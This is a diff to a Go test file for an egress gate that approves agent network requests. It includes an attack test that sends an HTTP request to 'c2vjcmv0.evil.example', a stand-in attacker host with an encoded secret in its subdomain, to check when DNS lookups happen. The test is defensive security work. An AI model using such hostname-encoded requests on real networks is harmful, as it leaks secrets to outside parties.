@@ -7,11 +7,13 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
+	"fmt"
 	"net"
 	"net/http"
 	"net/url"
 	"os"
 	"path/filepath"
+	"slices"
 	"strconv"
 	"strings"
 	"syscall"
@@ -162,6 +164,16 @@ func await(t *testing.T, what string, f func() bool) {
 			t.Fatal("never: " + what)
 		}
 	}
+}
+
+// says waits until the last line of a gate on stderr, which comes by itself, has all these words.
+func (r *running) says(t *testing.T, words ...string) {
+	t.Helper()
+	await(t, fmt.Sprintf("a gate that says %q", words), func() bool {
+		all := r.stderr.String()
+		last := all[max(0, strings.LastIndex(all, "the gate ")):]
+		return !slices.ContainsFunc(words, func(word string) bool { return !strings.Contains(last, word) })
+	})
 }
 
 // ask asks for a host, and approve grants it.
@@ -496,19 +508,20 @@ func TestAttackG7_AskingLooksNothingUp(t *testing.T) {
 		t.Fatal(err)
 	}
 	r.approve(t, id, requests.Scope{})
-	if strings.Contains(r.stderr.String(), lookedUp) {
-		t.Error("a name was looked up before anything was requested of it")
-	}
 	r.approve(t, r.askHTTP(t, agent, "c2vjcmv0.evil.example"), requests.Scope{})
 	client := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: "proxy"}), DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
 		return new(net.Dialer).DialContext(ctx, "unix", filepath.Join(r.dir, "egress.sock"))
 	}}}
 	defer client.CloseIdleConnections()
+	requested := time.Now().UnixNano()
 	if response, err := client.Get("http://c2vjcmv0.evil.example/"); err == nil {
 		_ = response.Body.Close()
 	}
-	if !strings.Contains(r.stderr.String(), lookedUp) {
-		t.Error("a lookup goes unseen: this test proves nothing")
+	await(t, "a lookup", func() bool { return strings.Contains(r.stderr.String(), lookedUp) })
+	_, first, _ := strings.Cut(r.stderr.String(), lookedUp)
+	first, _, _ = strings.Cut(first, "\n")
+	if at, err := strconv.ParseInt(first, 10, 64); err != nil || at < requested {
+		t.Errorf("a name was looked up before anything was requested of it: %s, %v", first, err)
 	}
 }
 
